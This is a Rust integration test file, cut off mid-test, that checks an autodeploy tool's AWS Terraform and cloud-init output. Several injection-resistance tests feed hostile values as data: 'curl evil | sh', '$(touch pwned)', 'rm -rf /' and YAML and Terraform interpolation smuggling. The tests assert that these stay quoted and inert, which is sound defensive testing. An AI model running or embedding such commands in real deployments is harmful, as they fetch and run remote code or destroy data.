//! The AWS vm strategy end to end: real analyze → parse → decide on a fixture,
//! render, then `terraform fmt -check` and `terraform validate` offline.
mod support;

use autodeploy_render::{render, RenderError, RenderOptions};
use serde_json::json;
use support::{assert_fmt, assert_valid, scenario, write_bundle};

fn bundle(fixture: &str, request: &str) -> autodeploy_render::Bundle {
    let (analysis, decision) = scenario(fixture, request);
    render(&decision, &analysis, &RenderOptions::default()).expect("renders")
}

fn contents<'a>(b: &'a autodeploy_render::Bundle, path: &str) -> &'a str {
    &b.get(path)
        .unwrap_or_else(|| panic!("{path} in {:?}", b.paths()))
        .contents
}

#[test]
fn hello_world_single_instance_validates() {
    let b = bundle("hello_world_shape", "deploy this Flask app on AWS");
    let compute = contents(&b, "terraform/compute.tf");
    assert!(compute.contains("http_tokens                 = \"required\""));
    assert!(compute.contains("encrypted             = true"));
    assert!(compute.contains("resource \"aws_eip\" \"app\""));
    let ci = contents(&b, "cloud-init.yaml");
    assert!(ci.starts_with("#cloud-config\n"));
    // A local folder is not a remote the machine can clone: the code comes
    // from the archive Terraform uploads, downloaded at boot.
    assert!(!ci.contains("git clone"));
    assert!(ci.contains("- \"python3 /opt/autodeploy/launch.py fetch\""));
    assert_eq!(b.source_archive.as_deref(), Some("source.zip"));
    assert!(compute.contains("source      = \"${path.module}/../source.zip\""));
    assert!(compute.contains("\"s3:GetObject\""));
    assert!(ci.contains("nginx"));
    let network = contents(&b, "terraform/network.tf");
    assert!(!network.contains("\"22\"") && !network.contains("= 22\n"));
    insta::assert_snapshot!("hello_world_compute_tf", compute);
    insta::assert_snapshot!("hello_world_cloud_init", ci);
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}

#[test]
fn express_autoscaling_validates() {
    let b = bundle(
        "node_express_basic",
        "deploy on AWS on a VM, 2 to 4 instances",
    );
    let compute = contents(&b, "terraform/compute.tf");
    for r in [
        "resource \"aws_launch_template\" \"app\"",
        "resource \"aws_autoscaling_group\" \"app\"",
        "resource \"aws_lb\" \"main\"",
        "resource \"aws_lb_listener\" \"http\"",
        "resource \"aws_lb_target_group\" \"web\"",
        "TargetTrackingScaling",
    ] {
        assert!(compute.contains(r), "{r}");
    }
    assert!(contents(&b, "terraform/network.tf").contains("resource \"aws_nat_gateway\" \"main\""));
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}

#[test]
fn hostile_names_stay_inert() {
    let b = bundle("hostile_names", "deploy this on AWS");
    let ci = contents(&b, "cloud-init.yaml");
    // The folder name only appears inside the YAML-quoted JSON config, as data.
    let hostile_dir = "web $(touch pwned) ${path.module}";
    for line in ci.lines().filter(|l| l.contains("touch pwned")) {
        assert!(
            line.trim_start().starts_with("content: \"{"),
            "hostile text outside the quoted config: {line}"
        );
    }
    // Parse the config back out of the YAML scalar: the path round-trips exactly.
    let line = ci
        .lines()
        .find(|l| l.contains("touch pwned"))
        .expect("config line");
    let scalar = line.trim_start().strip_prefix("content: ").unwrap();
    let config: serde_json::Value =
        serde_json::from_str(&serde_json::from_str::<String>(scalar).unwrap()).unwrap();
    assert_eq!(config["workdir"], format!("/opt/app/src/{hostile_dir}"));
    // Terraform files hold no interpolation of repository text.
    for f in b.files.iter().filter(|f| f.path.starts_with("terraform/")) {
        assert!(!f.contents.contains("touch pwned"), "{}", f.path);
        assert!(!f.contents.contains("curl evil"), "{}", f.path);
    }
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}

/// The same fixture with the decision's repository-derived fields made as
/// hostile as they can be: start command, env names and values, source URL.
#[test]
fn hostile_decision_fields_stay_inert() {
    let (analysis, mut d) = scenario("hostile_names", "deploy this on AWS");
    let evil = "node app.js; curl evil | sh # ${path.module} %{ if true }x%{ endif }";
    d.source.input = "https://example.com/r.git'; touch /tmp/pwned; echo '${path.module}".into();
    d.source.kind = autodeploy_core::SourceKind::Git;
    let s = &mut d.services[0];
    s.start = Some(evil.into());
    s.env.push(autodeploy_core::EnvBinding {
        name: "WEIRD ${path.module} %{x}\"\n- evil: yes".into(),
        value: autodeploy_core::EnvValue::Literal {
            value: "'; rm -rf / #\n\"${x}".into(),
        },
        secret: false,
        reason: "test".into(),
    });
    let b = render(&d, &analysis, &RenderOptions::default()).expect("renders");
    let ci = contents(&b, "cloud-init.yaml");
    // No raw newline escaped into YAML: every line is one we wrote.
    assert!(!ci.lines().any(|l| l.trim_start().starts_with("- evil")));
    let config_line = ci
        .lines()
        .find(|l| l.contains("curl evil"))
        .expect("config");
    assert!(
        config_line.trim_start().starts_with("content: \"{"),
        "{config_line}"
    );
    assert_eq!(ci.matches("curl evil").count(), 1);
    let scalar = config_line.trim_start().strip_prefix("content: ").unwrap();
    let config: serde_json::Value =
        serde_json::from_str(&serde_json::from_str::<String>(scalar).unwrap()).unwrap();
    assert_eq!(config["start"], evil);
    // The clone command is one YAML string holding one single-quoted shell word.
    let clone = ci.lines().find(|l| l.contains("git clone")).unwrap();
    let clone: String =
        serde_json::from_str(clone.trim_start().strip_prefix("- ").unwrap()).unwrap();
    assert_eq!(
        clone,
        format!(
            "git clone -- {} /opt/app/src",
            autodeploy_render::escape::sh(&d.source.input)
        )
    );
    for f in b.files.iter().filter(|f| f.path.starts_with("terraform/")) {
        assert!(!f.contents.contains("curl evil"), "{}", f.path);
        assert!(!f.contents.contains("touch /tmp/pwned"), "{}", f.path);
    }
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}

#[test]
fn secrets_are_read_at_boot_never_written() {
    let b = bundle("python_committed_env_secret", "deploy this on AWS on a VM");
    // The repository's committed values never reach the bundle.
    for f in &b.files {
        assert!(
            !f.contents.contains("9f3c7a1e5b2d48c6a0e4f7b1d3c5e8a2"),
            "{}",
            f.path
        );
        assert!(!f.contents.contains("changeme"), "{}", f.path);
    }
    let compute = contents(&b, "terraform/compute.tf");
    assert!(compute.contains("aws_secretsmanager_secret.session_secret.arn"));
    assert!(compute.contains("\"secretsmanager:GetSecretValue\""));
    let ci = contents(&b, "cloud-init.yaml");
    assert!(ci.contains("python3-boto3"));
    assert!(ci.contains(r#"\"from\": \"secret\""#));
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}

#[test]
fn database_and_cache_are_wired_on_ec2_and_assembled_at_boot() {
    let b = bundle(
        "python_django_postgres",
        "deploy on AWS EC2 with postgres and redis, 2-4 instances",
    );
    let compute = contents(&b, "terraform/compute.tf");
    // The addresses and the database's secret reach the machine as tags; the
    // instance role may read exactly the secrets its env names.
    for needle in [
        "\"autodeploy-database-host\" = aws_db_instance.main.address",
        "\"autodeploy-secret-database\" = aws_secretsmanager_secret.db_master.arn",
        "\"autodeploy-cache-host\" = aws_elasticache_replication_group.main.primary_endpoint_address",
        "\"autodeploy-secret-cache\" = aws_secretsmanager_secret.cache_auth_token.arn",
    ] {
        assert!(compute.contains(needle), "{needle}");
    }
    let policy = &compute[compute
        .find("data \"aws_iam_policy_document\" \"app_secrets\"")
        .unwrap()..];
    assert!(policy.contains("aws_secretsmanager_secret.db_master.arn,"));
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);

    // The launcher, pulled out of cloud-init by the real YAML parser and run
    // by the real python3 with IMDS and Secrets Manager answered locally.
    let dir = tempfile::tempdir().unwrap();
    let ci = dir.path().join("cloud-init.yaml");
    std::fs::write(&ci, contents(&b, "cloud-init.yaml")).unwrap();
    let probe = r#"
import importlib.util, json, sys, yaml
doc = yaml.safe_load(open(sys.argv[1]))
files = {f["path"]: f["content"] for f in doc["write_files"]}
launch = sys.argv[2]
open(launch, "w").write(files["/opt/autodeploy/launch.py"])
spec = importlib.util.spec_from_file_location("launch", launch)
m = importlib.util.module_from_spec(spec)
spec.loader.exec_module(m)
tags = {
    "autodeploy-database-host": "db.internal",
    "autodeploy-secret-database": "arn:rds",
    "autodeploy-cache-host": "cache.internal",
    "autodeploy-cache-port": "6379",
    "autodeploy-secret-cache": "arn:cache",
    "autodeploy-secret-django_secret_key": "arn:key",
    "AutodeployPublicHost": "lb.example",
}
secrets = {"arn:rds": json.dumps({"username": "app", "password": "p@ss/w:rd"}),
           "arn:cache": "tok+en", "arn:key": "k"}
m.imds = lambda path: tags[path.rsplit("/", 1)[1]]
m.secret = lambda arn: secrets[arn]
cfg = json.loads(files["/etc/autodeploy/app.json"])
env = m.environment(cfg)
print(json.dumps({k: env[k] for k in ("POSTGRES_HOST", "POSTGRES_PORT", "POSTGRES_USER", "POSTGRES_PASSWORD", "POSTGRES_DB", "REDIS_URL")}))
"#;
    let stdout = support::python(probe, &[&ci, &dir.path().join("launch.py")]);
    let env: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(env["POSTGRES_HOST"], "db.internal");
    assert_eq!(env["POSTGRES_PORT"], "5432");
    assert_eq!(env["POSTGRES_USER"], "app");
    assert_eq!(env["POSTGRES_PASSWORD"], "p@ss/w:rd");
    assert_eq!(env["POSTGRES_DB"], "python_django_postgres");
    // redis-py and Celery read how to check the certificate from the URL.
    assert_eq!(
        env["REDIS_URL"],
        "rediss://:tok%2Ben@cache.internal:6379/0?ssl_cert_reqs=required"
    );
}

#[test]
fn a_database_url_is_assembled_with_the_code_s_scheme() {
    let b = bundle(
        "python_fastapi_src_layout",
        "deploy on AWS on a VM with postgres",
    );
    let ci = contents(&b, "cloud-init.yaml");
    assert!(ci.contains(r#"\"from\": \"database\""#), "{ci}");
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}

/// The launcher's AWS lookups answered locally: a tag is `tag:<key>`, the
/// RDS secret a JSON login, any other secret `secret-of-<arn>`.
const AWS_STUBS: &str = r#"
m.imds = lambda path: "tag:" + path.rsplit("/", 1)[1]
m.secret = lambda arn: json.dumps({"username": "app", "password": "p@ss"}) if arn.endswith("database") else "secret-of-" + arn
"#;

const WEB_WORKER: &str = "python_flask_rq_procfile";

/// A release step that runs a migration CLI gets it on the machine, built
/// for the database it migrates.
#[test]
fn a_diesel_release_step_gets_diesel_cli_on_the_machine() {
    let b = bundle("rust_diesel_migrations", "deploy on AWS EC2 with postgres");
    let ci = contents(&b, "cloud-init.yaml");
    assert!(ci.contains(
        "cargo install diesel_cli --locked --no-default-features --features postgres --version '~2.1' --root /usr/local"
    ));
    assert!(ci.contains("libpq-dev"));
    assert!(
        ci.contains(r#"\"release\": \"diesel migration run\""#),
        "{ci}"
    );
    let plain = bundle("rust_actix_web", "deploy on AWS EC2 with postgres");
    assert!(!contents(&plain, "cloud-init.yaml").contains("diesel_cli"));
    // sqlx migrations the code does not embed: sqlx-cli, with its TLS.
    let b = bundle("rust_sqlx_migrations", "deploy on AWS EC2 with postgres");
    let ci = contents(&b, "cloud-init.yaml");
    assert!(ci.contains(
        "cargo install sqlx-cli --locked --no-default-features --features rustls,postgres --version '~0.7.4' --root /usr/local"
    ), "{ci}");
    assert!(ci.contains(r#"\"release\": \"sqlx migrate run\""#), "{ci}");
}

#[test]
fn the_launcher_makes_files_from_their_examples_before_the_fixes() {
    let b = bundle(
        "node_nestjs_config_example",
        "deploy on AWS EC2 with postgres",
    );
    let ci = contents(&b, "cloud-init.yaml");
    let plan = contents(&b, "PLAN.md");
    assert!(
        plan.contains(
            "` src/settings.ts `: not in the repository; made from ` src/settings.ts.example `"
        ),
        "{plan}"
    );
    // Run the launcher's `fix` step on a checkout that lacks the file.
    let dir = tempfile::tempdir().unwrap();
    let repo = dir.path().join("repo");
    std::fs::create_dir_all(repo.join("src")).unwrap();
    std::fs::write(
        repo.join("src/settings.ts.example"),
        "export const SECRET = 'x';\n",
    )
    .unwrap();
    std::fs::write(dir.path().join("cloud-init.yaml"), ci).unwrap();
    let probe = format!(
        "{}{}",
        support::LOAD_LAUNCHER,
        r#"
cfg = json.loads(files["/etc/autodeploy/app.json"])
cfg["repo"] = sys.argv[3]
m.apply_fixes(cfg)
m.apply_fixes(cfg)
"#
    );
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(probe)
        .arg(dir.path().join("cloud-init.yaml"))
        .arg(dir.path().join("launch.py"))
        .arg(&repo)
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert_eq!(
        std::fs::read_to_string(repo.join("src/settings.ts")).unwrap(),
        "export const SECRET = 'x';\n"
    );
    assert!(
        said.contains("made 'src/settings.ts' from 'src/settings.ts.example'"),
        "{said}"
    );
    // The second run keeps what the first made.
    assert!(
        said.contains("'src/settings.ts' exists in the source, used as it is"),
        "{said}"
    );
}

/// A Procfile's web + rq worker on one EC2 instance: one runtime install,
/// the release step once before any process starts, one unit per process
/// with its own command and settings, nginx in front of the web only.
#[test]
fn web_and_worker_share_one_instance() {
    let b = bundle(WEB_WORKER, "deploy on AWS EC2 with postgres and redis");
    let ci = contents(&b, "cloud-init.yaml");
    let m = support::vm_processes(ci, AWS_STUBS);
    let units = m["units"].as_object().unwrap();
    assert_eq!(
        units.keys().collect::<Vec<_>>(),
        ["app-worker.service", "app.service"]
    );
    let web = &units["app.service"];
    let worker = &units["app-worker.service"];
    assert_eq!(web["exec"][2], "gunicorn app:app");
    assert_eq!(worker["exec"][2], "rq worker app-tasks");
    assert_eq!(web["cwd"], "/opt/app/src");
    assert_eq!(worker["cwd"], "/opt/app/src");
    // Each process gets its own settings: rq's CLI reads RQ_REDIS_URL, and
    // the worker's jobs use the app's database.
    let db = "postgresql://app:p%40ss@tag:autodeploy-database-host:5432/python_flask_rq_procfile";
    let redis = "rediss://:secret-of-tag%3Aautodeploy-secret-cache@tag:autodeploy-cache-host:tag:autodeploy-cache-port/0?ssl_cert_reqs=required";
    assert_eq!(web["env"]["DATABASE_URL"], db);
    assert_eq!(web["env"]["REDIS_URL"], redis);
    assert!(web["env"].get("RQ_REDIS_URL").is_none(), "{web:#}");
    assert_eq!(worker["env"]["RQ_REDIS_URL"], redis);
    assert_eq!(worker["env"]["DATABASE_URL"], db);
    for u in [web, worker] {
        let unit = u["unit"].as_str().unwrap();
        assert!(unit.contains("Restart=always"), "{unit}");
        assert!(unit.contains("User=app"), "{unit}");
    }
    assert!(worker["unit"]
        .as_str()
        .unwrap()
        .contains("SyslogIdentifier=app-worker"));
    // Install, build and release run once (setup), before either unit starts.
    let cfg = &m["config"];
    assert_eq!(cfg["release"], "flask db upgrade");
    assert_eq!(cfg["install"], "pip install -r requirements.txt");
    let run = &m["runcmd"];
    assert!(support::runcmd_at(run, "setup") < support::runcmd_at(run, "app-worker.service"));
    assert_eq!(
        support::runcmd_at(run, "app.service"),
        support::runcmd_at(run, "app-worker.service")
    );
    assert_eq!(ci.matches("launch.py, setup]").count(), 1);
    // nginx fronts the web service only.
    assert!(ci.contains("proxy_pass http://127.0.0.1:5000;"));
    insta::assert_snapshot!(
        "web_worker_machine",
        serde_json::to_string_pretty(&json!({"units": m["units"], "runcmd": m["runcmd"]})).unwrap()
    );
    // The instance may read exactly the secrets both processes name.
    let compute = contents(&b, "terraform/compute.tf");
    for needle in [
        "\"autodeploy-database-host\" = aws_db_instance.main.address",
        "\"autodeploy-secret-cache\" = aws_secretsmanager_secret.cache_auth_token.arn",
        "user_data_base64            = base64gzip(local.user_data)",
    ] {
        assert!(compute.contains(needle), "{needle}");
    }
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}

/// On an Auto Scaling group every instance runs the worker too (rq workers
/// share one queue); the ALB checks the web service only.
#[test]
fn every_instance_of_a_group_runs_the_workers() {
    let b = bundle(
        WEB_WORKER,
        "deploy on AWS EC2 with postgres and redis, 2-4 instances",
    );
    let compute = contents(&b, "terraform/compute.tf");
    assert!(compute.contains("resource \"aws_autoscaling_group\" \"app\""));
    // The target group is the web service's port.
    assert!(compute.contains("port                 = 5000"), "{compute}");
    let m = support::vm_processes(contents(&b, "cloud-init.yaml"), AWS_STUBS);
    assert!(m["units"]["app-worker.service"].is_object(), "{m:#}");
    // PLAN.md says so, and names each process's unit.
    let plan = contents(&b, "PLAN.md");
    assert!(
        plan.contains("Every instance of the group runs every process"),
        "{plan}"
    );
    assert!(support::plan_row(&b, "app-worker.service").contains("| worker |"));
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
    assert_valid(&tf);
}

/// A copy of the decision's worker as a Celery beat scheduler.
fn with_beat(d: &mut autodeploy_core::Decision) {
    let mut beat = d.services[1].clone();
    beat.name = "beat".into();
    beat.start = Some("celery -A tasks beat --loglevel=info".into());
    d.services.push(beat);
}

#[test]
fn a_scheduler_runs_on_one_instance_and_is_refused_on_a_group() {
    let (analysis, mut d) = scenario(WEB_WORKER, "deploy on AWS EC2 with redis");
    with_beat(&mut d);
    let b = render(&d, &analysis, &RenderOptions::default()).expect("one instance runs beat");
    let m = support::vm_processes(contents(&b, "cloud-init.yaml"), AWS_STUBS);
    assert_eq!(
        m["units"]["app-beat.service"]["exec"][2],
        "celery -A tasks beat --loglevel=info"
    );

    let (analysis, mut d) = scenario(WEB_WORKER, "deploy on AWS EC2 with redis, 2-4 instances");
    with_beat(&mut d);
    let e = render(&d, &analysis, &RenderOptions::default()).unwrap_err();
    let msg = e.to_string();
    assert!(matches!(e, RenderError::Unsupported { .. }), "{msg}");
    assert!(msg.contains("the scheduler \"beat\""), "{msg}");
    assert!(msg.contains("ask for a single machine"), "{msg}");
}

/// What one machine cannot run is refused, saying what to ask for instead.
#[test]
fn what_one_machine_cannot_run_is_refused_clearly() {
    let req = "deploy on AWS EC2 with redis";
    let refused = |change: &dyn Fn(&mut autodeploy_core::Decision)| {
        let (analysis, mut d) = scenario(WEB_WORKER, req);
        change(&mut d);
        let e = render(&d, &analysis, &RenderOptions::default()).unwrap_err();
        assert!(matches!(e, RenderError::Unsupported { .. }), "{e}");
        e.to_string()
    };
    let msg = refused(&|d| {
        d.services[1].kind = autodeploy_core::ServiceKind::Web;
        d.services[1].port = Some(8001);
    });
    assert!(msg.contains("several web services"), "{msg}");
    assert!(msg.contains("ask for containers (\"on ECS\")"), "{msg}");
    let msg = refused(&|d| d.services[1].path = "jobs".into());
    assert!(msg.contains("from another folder (\"jobs\")"), "{msg}");
    let msg = refused(&|d| d.services[1].runtime.version = "3.11".into());
    assert!(msg.contains("on another runtime (python 3.11)"), "{msg}");
    let msg = refused(&|d| d.services[1].build = Some("make jobs".into()));
    assert!(msg.contains("with its own build step"), "{msg}");
    let msg = refused(&|d| {
        d.services[1].env.push(autodeploy_core::EnvBinding {
            name: "API_URL".into(),
            value: autodeploy_core::EnvValue::ServiceUrl {
                service: "api".into(),
            },
            secret: false,
            reason: "test".into(),
        })
    });
    assert!(msg.contains("the URL of the service \"api\""), "{msg}");
    let msg = refused(&|d| {
        d.services.remove(0);
    });
    assert!(msg.contains("workers without a web service"), "{msg}");
}

/// A worker's name reaches the machine as a `[a-z0-9-]` unit name; its
/// command only inside the quoted JSON document.
#[test]
fn hostile_worker_names_and_commands_stay_inert() {
    let (analysis, mut d) = scenario(WEB_WORKER, "deploy on AWS EC2 with redis");
    let evil = "rq worker; curl evil | sh # ${path.module}";
    d.services[1].name = "Work$(touch pwned)\n- evil: yes/../x".into();
    d.services[1].start = Some(evil.into());
    let b = render(&d, &analysis, &RenderOptions::default()).expect("renders");
    let ci = contents(&b, "cloud-init.yaml");
    assert!(!ci.lines().any(|l| l.trim_start().starts_with("- evil")));
    assert_eq!(ci.matches("curl evil").count(), 1);
    let unit = "app-work-touch-pwned-evil-yes-x";
    assert!(ci.contains(&format!("- path: \"/etc/systemd/system/{unit}.service\"")));
    let m = support::vm_processes(ci, AWS_STUBS);
    assert_eq!(m["units"][format!("{unit}.service")]["exec"][2], evil);
    assert_eq!(m["config"]["workers"][0]["name"], d.services[1].name);
    let (_dir, tf) = write_bundle(&b);
    assert_fmt(&tf);
}

/// A project pinned to a Python line Ubuntu does not ship (runtime.txt 3.10)
/// gets that line on the machine, installed by a pinned uv, with Ubuntu's
/// 3.12 only when uv has no build of it; the script is valid shell.
#[test]
fn the_machine_gets_the_python_line_the_project_asks_for() {
    let b = bundle("python_pinned_line", "deploy this on an AWS VM");
    let script = install_runtime(&b);
    assert!(script.contains("uv python install '3.10'"), "{script}");
    assert!(
        script.contains("uv venv --seed --python '3.10' /opt/app/venv"),
        "{script}"
    );
    assert!(
        script.contains("pip install --disable-pip-version-check 'uv=="),
        "{script}"
    );
}

/// `install-runtime.sh` of a bundle's cloud-init, checked by `bash -n`.
fn install_runtime(b: &autodeploy_render::Bundle) -> String {
    let ci = contents(b, "cloud-init.yaml");
    let doc: serde_yaml::Value = serde_yaml::from_str(ci).expect("cloud-init is YAML");
    let script = doc["write_files"]
        .as_sequence()
        .unwrap()
        .iter()
        .find(|f| {
            f["path"]
                .as_str()
                .is_some_and(|p| p.ends_with("install-runtime.sh"))
        })
        .and_then(|f| f["content"].as_str())
        .expect("install-runtime.sh")
        .to_string();
    let out = std::process::Command::new("bash")
        .args(["-n", "-c", &script])
        .output()
        .expect("bash");
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    script
}

/// Every program the steps run is installed on the machine: pipenv and
/// poetry (pinned, in a venv of their own, installing into the app's venv),
/// Rust and Go at the version the project asks for (rustup, go.dev), never
/// the distribution's older ones.
#[test]
fn the_machine_installs_the_tools_the_steps_run_at_the_versions_asked() {
    for (fixture, request, tool, env) in [
        (
            "python_pipenv",
            "deploy on AWS EC2 without a database",
            "pipenv==",
            "PIPENV_VERBOSITY",
        ),
        (
            "python_poetry_flask_factory",
            "deploy on AWS EC2 with postgres",
            "poetry==",
            "POETRY_VIRTUALENVS_CREATE",
        ),
    ] {
        let b = bundle(fixture, request);
        let script = install_runtime(&b);
        let name = tool.trim_end_matches("==");
        assert!(
            script.contains(&format!(
                "/opt/autodeploy/tools/bin/pip install --disable-pip-version-check '{tool}"
            )),
            "{fixture}: {script}"
        );
        assert!(
            script.contains(&format!("/usr/local/bin/'{name}'")),
            "{script}"
        );
        let ci = contents(&b, "cloud-init.yaml");
        assert!(ci.contains(&format!("\\\"{env}\\\"")), "{fixture}: {ci}");
        assert!(ci.contains(r#"\"VIRTUAL_ENV\": \"/opt/app/venv\""#), "{ci}");
    }
    // poetry's `packaging` is one the app's own (older) Python can read.
    let poetry = install_runtime(&bundle(
        "python_poetry_flask_factory",
        "deploy on AWS EC2 with postgres",
    ));
    assert!(poetry.contains("'packaging==25.0'"), "{poetry}");
    let plain = install_runtime(&bundle(
        "python_django_postgres",
        "deploy on AWS EC2 with postgres",
    ));
    assert!(!plain.contains("/opt/autodeploy/tools"), "{plain}");
    // A driver built from source (psycopg2 without a wheel for this Python:
    // flask-bluelog) finds pg_config, as in the images' build stage.
    assert!(
        plain.contains(" libpq-dev default-libmysqlclient-dev pkg-config"),
        "{plain}"
    );

    let b = bundle("rust_axum", "deploy on AWS EC2");
    let script = install_runtime(&b);
    assert!(script.contains("--default-toolchain '1."), "{script}");
    assert!(!script.contains("apt-get install -y cargo"), "{script}");
    assert!(contents(&b, "cloud-init.yaml").contains("RUSTUP_HOME"));

    let script = install_runtime(&bundle("go_gin", "deploy on AWS EC2"));
    assert!(script.contains("https://go.dev/dl/"), "{script}");
    assert!(script.contains("sha256sum -c -"), "{script}");
    assert!(!script.contains("golang-go"), "{script}");
}

/// The launcher gives the web process its port as `PORT` (gunicorn started
/// without `--bind`, as a Procfile written for Heroku does, listens there),
/// unless the plan sets it; a worker gets none.
#[test]
fn the_launcher_gives_the_web_process_its_port() {
    let b = bundle("hello_world_shape", "deploy this Flask app on AWS");
    let dir = tempfile::tempdir().unwrap();
    let ci_path = dir.path().join("cloud-init.yaml");
    std::fs::write(&ci_path, contents(&b, "cloud-init.yaml")).unwrap();
    let probe = format!(
        "{}{}",
        support::LOAD_LAUNCHER,
        r#"
got = {}
label = [None]
m.os.chdir = lambda d: None
def execve(path, args, env):
    got[label[0]] = env.get("PORT")
m.os.execve = execve
m.os.environ.pop("PORT", None)
cfg = {"start": "gunicorn wsgi:app", "port": 5000, "workdir": "/", "path_prefix": "/usr/bin", "env": [],
       "workers": [{"unit": "app-worker", "start": "rq worker", "env": []}]}
for unit in ["app", "app-worker"]:
    sys.argv = ["launch.py", "run", unit]
    label[0] = unit
    m.run(cfg)
sys.argv = ["launch.py", "run", "app"]
label[0] = "own"
m.run(dict(cfg, env=[{"name": "PORT", "from": "literal", "value": "8000"}]))
print(json.dumps(got))
"#
    );
    let out = std::process::Command::new("python3")
        .arg("-c")
        .arg(probe)
        .args([&ci_path, &dir.path().join("launch.py")])
        .output()
        .expect("python3 runs");
    let stderr = String::from_utf8_lossy(&out.stderr);
    if stderr.contains("No module named 'yaml'") {
        eprintln!("SKIPPING the launcher probe: PyYAML is not installed for python3");
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "CI=true: PyYAML must be there"
        );
        return;
    }
    assert!(out.status.success(), "{stderr}");
    let got: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        got,
        json!({"app": "5000", "app-worker": null, "own": "8000"})
    );
}

/// The analysis' install constraints (`SQLAlchemy<2.1` beside psycopg2)
/// hold on a VM too: the launcher's setup writes them to a file and gives
/// the install step PIP_CONSTRAINT and UV_CONSTRAINT, and only it.
#[test]
fn the_install_on_a_machine_keeps_the_analysis_constraints() {
    let b = bundle("wiring_flask_sqlalchemy", "deploy on AWS EC2 with postgres");
    let ci = contents(&b, "cloud-init.yaml");
    let probe = format!(
        r#"
import io
cfg = json.loads(files["/etc/autodeploy/app.json"])
{AWS_STUBS}
written = {{}}
class W(io.StringIO):
    def __init__(self, p): super().__init__(); self.p = p
    def __exit__(self, *a): written[self.p] = self.getvalue()
m.open = lambda p, mode="r": W(p)
steps = []
m.subprocess.run = lambda argv, cwd, env, check: steps.append((argv[-1], env.get("PIP_CONSTRAINT"), env.get("UV_CONSTRAINT")))
m.setup(cfg)
print(json.dumps({{"written": written, "steps": steps}}))
"#
    );
    let got = support::probe_launcher(ci, &probe, &[]);
    let file = "/opt/app/autodeploy-constraints.txt";
    assert_eq!(got["written"][file], "SQLAlchemy<2.1\n", "{got:#}");
    let steps = got["steps"].as_array().unwrap();
    assert_eq!(steps[0][0], "pip install -r requirements.txt", "{got:#}");
    assert_eq!(
        (steps[0][1].as_str(), steps[0][2].as_str()),
        (Some(file), Some(file))
    );
    // The release runs with the app's settings only.
    assert!(steps[1..].iter().all(|s| s[1].is_null()), "{got:#}");
}

/// The machine has what the steps run beyond the service's runtime: Node
/// for a Python service's asset build (djangogirls' `npm install`, gulp),
/// and corepack's pnpm/yarn for a package that uses them (etherpad-lite),
/// fetched without a prompt. A service whose steps run neither gets none.
#[test]
fn the_machine_installs_node_for_assets_and_corepack_for_pnpm() {
    let tailwind = install_runtime(&bundle("mixed_django_tailwind", "deploy on AWS EC2"));
    let node = tailwind
        .find("# The asset build (its package.json) runs on Node")
        .unwrap_or_else(|| panic!("{tailwind}"));
    assert!(tailwind[node..].contains("major='22'"), "{tailwind}");
    assert!(tailwind[node..].contains("tar -xJf"), "{tailwind}");
    assert!(!tailwind.contains("corepack enable"), "{tailwind}");
    let b = bundle("node_fastify_localhost", "deploy on AWS EC2");
    let pnpm = install_runtime(&b);
    assert!(pnpm.contains("corepack enable"), "{pnpm}");
    let ci = contents(&b, "cloud-init.yaml");
    // corepack's own known-good pnpm, never the newest (etherpad-lite's
    // lock file was refused by an unpinned pnpm 12).
    for setting in [
        "COREPACK_ENABLE_DOWNLOAD_PROMPT",
        "COREPACK_DEFAULT_TO_LATEST",
        "COREPACK_ENABLE_AUTO_PIN",
    ] {
        assert!(
            ci.contains(&format!(r#"\"{setting}\": \"0\""#)),
            "{setting} in {ci}"
        );
    }
    let plain = install_runtime(&bundle("hello_world_shape", "deploy on AWS EC2"));
    assert!(
        !plain.contains("Node.js") && !plain.contains("corepack"),
        "{plain}"
    );
}

/// The admin URL of the test PostgreSQL (`scripts/services.sh`), or None
/// when it is not there (a failure under CI=true).
fn test_postgres() -> Option<String> {
    let url = std::env::var("AUTODEPLOY_TEST_DATABASE_URL").ok();
    if url.is_none() {
        eprintln!("SKIPPED (release lock on PostgreSQL): AUTODEPLOY_TEST_DATABASE_URL is not set; scripts/test.sh sets it");
        assert!(
            std::env::var("CI").as_deref() != Ok("true"),
            "CI=true: the test PostgreSQL must be there"
        );
    }
    url
}

/// The machines of a group take turns at the release through a lock in the
/// database it migrates: the launcher holds PostgreSQL's advisory lock in a
/// psql session while the release runs (psql installed by cloud-init), and
/// a machine that finds it taken waits. One machine takes no lock. Run
/// against the real PostgreSQL: a session of the test holds the lock, the
/// launcher is seen waiting on it (pg_stat_activity), and it goes on only
/// once the test lets go. MySQL's client gets the password by its
/// environment, never its arguments.
#[test]
fn a_group_takes_turns_at_the_release_through_a_database_lock() {
    let single = bundle("python_django_postgres", "deploy on AWS EC2 with postgres");
    let single_ci = contents(&single, "cloud-init.yaml");
    assert!(!single_ci.contains(r#"\"release_lock\": {"#), "{single_ci}");
    assert!(!single_ci.contains("postgresql-client"), "{single_ci}");
    let b = bundle(
        "python_django_postgres",
        "deploy on AWS EC2 with postgres, 2-4 instances",
    );
    let ci = contents(&b, "cloud-init.yaml");
    assert!(ci.contains("  - postgresql-client\n"), "{ci}");
    assert!(
        contents(&b, "PLAN.md").contains("PostgreSQL's advisory lock"),
        "{}",
        contents(&b, "PLAN.md")
    );
    let Some(url) = test_postgres() else { return };
    let probe = r#"
import os, subprocess, threading, time, urllib.parse
cfg = json.loads(files["/etc/autodeploy/app.json"])
lock = cfg["release_lock"]
